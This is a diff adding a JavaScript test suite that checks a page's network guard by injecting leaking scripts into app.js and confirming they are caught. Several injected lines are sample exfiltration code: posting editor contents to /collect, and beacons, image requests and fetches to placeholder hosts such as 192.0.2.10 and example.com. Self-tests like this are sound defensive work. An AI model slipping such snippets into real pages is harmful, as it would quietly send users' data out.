@@ -1,0 +1,94 @@
+// The network guard's self-test: pages that do leak, each a copy of the
+// real page with a few lines added, must be caught. Without this, a guard
+// that saw nothing would pass every test.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { serve, launch, open } from './harness.mjs';
+
+let browser;
+before(async () => {
+  browser = await launch();
+});
+after(async () => {
+  await browser?.close();
+});
+
+/** The real page with `script` appended to app.js (and its CSP removed when asked). */
+async function leaky(script, { dropCsp = false } = {}) {
+  return serve(undefined, {
+    transform(path, body) {
+      if (path === '/app.js') return Buffer.concat([body, Buffer.from(`\n;${script}\n`)]);
+      if (dropCsp && (path === '/' || path === '/index.html')) {
+        return Buffer.from(body.toString().replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/i, ''));
+      }
+      return body;
+    },
+  });
+}
+
+const settle = (ms) => new Promise((ok) => setTimeout(ok, ms));
+
+test('a page that posts the config to its own server after loading is caught', async () => {
+  const server = await leaky(
+    "setTimeout(() => fetch('/collect', { method: 'POST', body: document.querySelector('#editor')?.value ?? 'config' }), 500);",
+  );
+  try {
+    const { page, guard } = await open(browser, server.origin);
+    await settle(1500);
+    const after = guard.after();
+    assert.ok(after.some((r) => r.includes('/collect')), `the guard missed the leak: ${JSON.stringify(after)}`);
+    assert.ok(server.log.some((r) => r.url === '/collect'), 'the leak did reach the server, as the guard must say');
+    await page.close();
+  } finally {
+    await server.close();
+  }
+});
+
+test('a page without its CSP that beacons elsewhere is caught, and the beacon goes nowhere', async () => {
+  const server = await leaky(
+    "setTimeout(() => { navigator.sendBeacon('http://192.0.2.10/b', 'config'); new Image().src = 'https://example.com/p.gif?c=1'; fetch('http://198.51.100.7/x').catch(() => {}); }, 300);",
+    { dropCsp: true },
+  );
+  try {
+    const { page, guard } = await open(browser, server.origin);
+    await settle(1500);
+    const foreign = guard.foreign();
+    for (const host of ['192.0.2.10', 'example.com', '198.51.100.7']) {
+      assert.ok(foreign.some((r) => r.includes(host)), `the guard missed ${host}: ${JSON.stringify(foreign)}`);
+    }
+    await page.close();
+  } finally {
+    await server.close();
+  }
+});
+
+test('a WebSocket and a WebRTC peer connection are caught', async () => {
+  const server = await leaky(
+    "setTimeout(() => { try { new WebSocket('ws://127.0.0.1:9/x'); } catch {} try { new RTCPeerConnection(); } catch {} }, 300);",
+    { dropCsp: true },
+  );
+  try {
+    const { page, guard } = await open(browser, server.origin);
+    await settle(1500);
+    assert.ok(guard.after().some((r) => r.startsWith('websocket ws://127.0.0.1:9/x')), JSON.stringify(guard.after()));
+    assert.equal(await guard.peerConnections(), 1);
+    await page.close();
+  } finally {
+    await server.close();
+  }
+});
+
+test('the real page passes the same guard', async () => {
+  const server = await serve();
+  try {
+    const { page, guard, problems } = await open(browser, server.origin);
+    await settle(1500);
+    assert.deepEqual(guard.foreign(), []);
+    assert.deepEqual(guard.after(), []);
+    assert.equal(await guard.peerConnections(), 0);
+    assert.deepEqual(problems, []);
+    await page.close();
+  } finally {
+    await server.close();
+  }
+});
